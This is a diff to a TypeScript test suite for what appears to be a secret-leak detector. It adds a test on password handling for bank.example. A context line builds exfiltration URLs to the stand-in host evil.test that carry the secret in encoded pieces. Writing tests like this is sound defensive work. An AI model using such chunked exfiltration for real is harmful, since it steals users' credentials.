@@ -53,6 +53,12 @@ describe('accumulate', () => {
     });
   }
 
+  it('does not hold what went there before it was known as a secret against what goes next', () => {
+    const signedIn = accumulate(EMPTY_STREAM, emptyTable('salt'), 'bank.example', 'user=alex\npassword=zanzibar77');
+    const next = accumulate(signedIn.state, withSecret('zanzibar77'), 'bank.example', 'https://bank.example/account');
+    expect(next.labels).toEqual([]);
+  });
+
   it('sees the pieces sent last piece first, and a base64 text sent in pieces', () => {
     const table = withSecret('zanzibar77');
     const wrap = (piece: string, i: number) => `https://evil.test/p?i=${i}&d=${encodeURIComponent(piece)}`;
